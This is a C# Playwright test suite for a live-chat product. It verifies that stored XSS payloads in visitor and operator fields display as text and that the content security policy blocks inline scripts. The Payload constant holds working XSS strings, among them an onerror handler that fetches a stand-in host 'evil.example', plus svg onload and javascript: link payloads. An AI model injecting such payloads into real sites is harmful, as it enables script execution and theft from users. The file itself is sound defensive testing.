using System.Net.Http.Headers;
using System.Net.Http.Json;
using ChatDesk.Server.Chats;
using ChatDesk.Tests.Files;
using ChatDesk.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Playwright;

namespace ChatDesk.Tests.Security;

/// <summary>
/// Stored XSS, rendered in the real console and widget in Chromium: every text field a visitor or an operator
/// controls holds a payload that would set <c>window.__xss</c> or call another host if it ran. Each shows as
/// text, no script runs, and no request leaves ChatDesk's two origins.
/// </summary>
[Collection(BrowserCollection.Name)]
public sealed class StoredXssBrowserTests(BrowserFixture browser) : ChatTestBase
{
    private const string Payload = "<img src=x onerror=\"window.__xss=1;fetch('http://evil.example/i')\"><script>window.__xss=2</script>"
        + "<svg onload=\"window.__xss=3\"></svg>\"'><a href=\"javascript:window.__xss=4\">x</a>";

    private static readonly LocatorAssertionsToHaveTextOptions Wait = new() { Timeout = 15_000 };

    private BrowserSteps Steps => new(browser, Host);

    /// <summary>Requests the page makes to any host but ChatDesk's own origins (the console's and the demo site's).</summary>
    private List<string> TrackForeignRequests(IPage page)
    {
        var own = new[] { new Uri(Host.ChatDeskOrigin).Authority, new Uri(Host.DemoSiteOrigin).Authority };
        var foreign = new List<string>();
        page.Request += (_, request) =>
        {
            if (Uri.TryCreate(request.Url, UriKind.Absolute, out var uri) && uri.Scheme is "http" or "https" or "ws" or "wss" && !own.Contains(uri.Authority))
                lock (foreign)
                    foreign.Add(request.Url);
        };
        return foreign;
    }

    private static async Task AssertNothingRanAsync(IFrame frame, List<string> foreignRequests)
    {
        Assert.True(await frame.EvaluateAsync<bool>("() => window.__xss === undefined"), "A payload ran.");
        Assert.Equal(0, await frame.Locator("img[src=x], script:not([src]), svg[onload], a[href^=javascript]").CountAsync());
        lock (foreignRequests)
            Assert.Empty(foreignRequests);
    }

    [Fact]
    public async Task What_a_visitor_typed_shows_as_text_in_the_console_and_runs_nothing()
    {
        var page = await Steps.OperatorLoggedInAsync(TestApi.AliceEmail, TestApi.AlicePassword);
        var foreign = TrackForeignRequests(page);
        var session = await TestApi.CreateVisitorAsync(Host);
        await Driver.ConnectVisitorAsync("visitor", Host.BaseUrl, session.VisitorToken);
        var conversation = await Driver.InvokeAsync<ConversationView>("visitor", "StartChat",
            new StartChatRequest(Payload[..100], "vera@example.com", "billing", "https://shop.example/?q=%3Cscript%3E", Payload, "en", "Europe/Paris"));
        await Driver.InvokeAsync("visitor", "SendMessage", TestApi.Message(Payload));
        using (var client = TestApi.CreateClient(Host))
        {
            client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", session.VisitorToken);
            (await client.PostAsync($"/api/files/visitor?name={Uri.EscapeDataString("<img src=x onerror=window.__xss=5>.png")}",
                SampleFiles.Content(SampleFiles.Png, "image/png"))).EnsureSuccessStatusCode();
        }
        var storedFileName = await Host.WithDbAsync(db => db.SharedFiles.Select(f => f.Name).SingleAsync());

        var chatItem = page.Locator("[data-testid=chat-item]");
        await Assertions.Expect(chatItem).ToHaveCountAsync(1, new() { Timeout = 15_000 });
        await chatItem.ClickAsync();
        await Assertions.Expect(page.Locator("[data-testid=visitor-name]")).ToHaveTextAsync(Payload[..100], Wait);
        await Assertions.Expect(BrowserSteps.MessageTexts(page).First).ToHaveTextAsync(Payload, Wait);
        await Assertions.Expect(page.Locator("[data-testid=file-link]")).ToContainTextAsync(storedFileName, new() { Timeout = 15_000 });
        await Assertions.Expect(page.Locator("[data-testid=context-current-page]")).ToContainTextAsync("<img src=x", new() { Timeout = 15_000 });
        Assert.Equal(conversation.ConversationId, await Host.WithDbAsync(db => db.Conversations.Select(c => c.Id).SingleAsync()));
        await AssertNothingRanAsync(page.MainFrame, foreign);
    }

    [Fact]
    public async Task What_an_operator_wrote_shows_as_text_in_the_widget_and_runs_nothing()
    {
        await OperatorOnlineAsync("alice", TestApi.AliceEmail, TestApi.AlicePassword);
        using (var alice = await TestApi.SignedInClientAsync(Host, TestApi.AliceEmail, TestApi.AlicePassword))
            (await alice.PutAsJsonAsync("/api/auth/me", new { displayName = Payload[..100], language = "en" })).EnsureSuccessStatusCode();
        await Driver.StopAsync("alice");
        await OperatorOnlineAsync("alice", TestApi.AliceEmail, TestApi.AlicePassword);
        var page = await Steps.NewPageAsync();
        var foreign = TrackForeignRequests(page);

        var widget = await Steps.StartWidgetChatAsync(page, "Vera", "billing");
        await Assertions.Expect(widget.Locator("[data-testid=operator-name]")).ToHaveTextAsync(Payload[..100], Wait);
        var conversationId = await Host.WithDbAsync(db => db.Conversations.Select(c => c.Id).SingleAsync());
        await Driver.InvokeAsync("alice", "SendMessage", conversationId, TestApi.Message(Payload));
        using (var alice = await TestApi.SignedInClientAsync(Host, TestApi.AliceEmail, TestApi.AlicePassword))
            (await alice.PostAsync($"/api/files/conversations/{conversationId}?name={Uri.EscapeDataString("<svg onload=window.__xss=6>.png")}",
                SampleFiles.Content(SampleFiles.Png, "image/png"))).EnsureSuccessStatusCode();
        var storedFileName = await Host.WithDbAsync(db => db.SharedFiles.Select(f => f.Name).SingleAsync());

        await Assertions.Expect(BrowserSteps.MessageTexts(widget).Filter(new() { HasText = "<script>" })).ToHaveTextAsync(Payload, Wait);
        await Assertions.Expect(widget.Locator("[data-testid=file-link]")).ToContainTextAsync(storedFileName, new() { Timeout = 15_000 });
        var frame = page.Frames.Single(f => f.Url.Contains("/widget/frame.html", StringComparison.Ordinal));
        await AssertNothingRanAsync(frame, foreign);
        await AssertNothingRanAsync(page.MainFrame, foreign);
    }

    [Fact]
    public async Task Script_injected_inline_into_the_console_or_the_widget_frame_is_blocked_by_their_policy()
    {
        var console = await Steps.NewPageAsync();
        await console.GotoAsync(Host.ConsoleUrl);
        await Assertions.Expect(console.Locator("input[name=email]")).ToBeVisibleAsync(new() { Timeout = 15_000 });
        var visitor = await Steps.NewPageAsync();
        await visitor.GotoAsync(Host.DemoSiteUrl);
        await BrowserSteps.OpenWidgetAsync(visitor);
        var frame = visitor.Frames.Single(f => f.Url.Contains("/widget/frame.html", StringComparison.Ordinal));

        foreach (var target in new[] { console.MainFrame, frame })
        {
            // An inline <script> and an inline event handler, as an HTML injection would add them.
            await target.EvaluateAsync("""
                () => {
                    const script = document.createElement('script');
                    script.textContent = 'window.__xss = 1';
                    document.body.append(script);
                    const img = document.createElement('img');
                    img.setAttribute('onerror', 'window.__xss = 2');
                    img.src = 'data:,not-an-image';
                    document.body.append(img);
                }
                """);
            await target.WaitForTimeoutAsync(300); // the image's error event, had it been allowed to run
            Assert.True(await target.EvaluateAsync<bool>("() => window.__xss === undefined"), $"Inline script ran in {target.Url}.");
        }
    }
}
